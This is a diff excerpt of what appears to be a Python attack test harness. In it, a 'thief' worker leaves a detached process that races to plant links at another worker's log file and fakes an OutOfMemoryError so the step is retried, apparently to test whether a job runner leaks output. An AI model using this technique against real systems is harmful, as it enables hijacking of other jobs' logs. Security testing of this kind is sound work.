@@ -15,7 +15,6 @@ import torch
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 HOME = os.path.expanduser("~")
-NOTES = os.path.join(HERE, "notes")
 SPACE = os.path.dirname(HOME)  # the folder of the step
 with open(os.path.join(HERE, "attack.txt")) as chosen:
     ATTACK, *ARGUMENTS = chosen.read().split()
@@ -158,22 +157,18 @@ def build():
 def sleeper():
     """Holds the second place, so that the thief's first try counts as made beside others and is
     repeated."""
-    if not os.path.exists(NOTES + "/slept"):
-        open(NOTES + "/slept", "w").close()
-        time.sleep(6)
+    time.sleep(6)
     return torch.nn.Sequential(torch.nn.Linear(4, 3))
 
 
 def thief():
-    """Has the parent open a file of its own as this worker's log: a process that outlives the first
-    try puts a link there."""
+    """Has the parent open a file of its own as this worker's log: a process that outlives the try
+    puts a link there, and the answer has the step tried again."""
     target = ARGUMENTS[0]
     if os.path.realpath("/proc/self/fd/1") == os.path.realpath(target):
-        print("STOLEN", flush=True)
-    if not os.path.exists(NOTES + "/started"):
-        open(NOTES + "/started", "w").close()
-        time.sleep(1)
-        code = f"""
+        os.write(1, b"STOLEN")
+    time.sleep(1)
+    code = f"""
 names = {[os.path.join(SPACE, name) for name in CHANNELS]!r}
 while time.time() < end:
     for name in names:
@@ -183,16 +178,5 @@ while time.time() < end:
             except OSError:
                 time.sleep(0.001)
 """
-        subprocess.Popen(
-            [
-                sys.executable,
-                "-c",
-                "import os, time\nos.setsid()\nif os.fork(): os._exit(0)\nend = time.time() + 15\n"
-                + code,
-            ],
-            stdin=subprocess.DEVNULL,
-            stdout=subprocess.DEVNULL,
-            stderr=subprocess.DEVNULL,
-        ).wait()
-        answer(json.dumps({"error": {"type": "OutOfMemoryError", "message": "x"}}))
-    return torch.nn.Sequential(torch.nn.Linear(4, 3))
+    leave_session(code)
+    answer(json.dumps({"error": {"type": "OutOfMemoryError", "message": "x"}, "answer": None}))
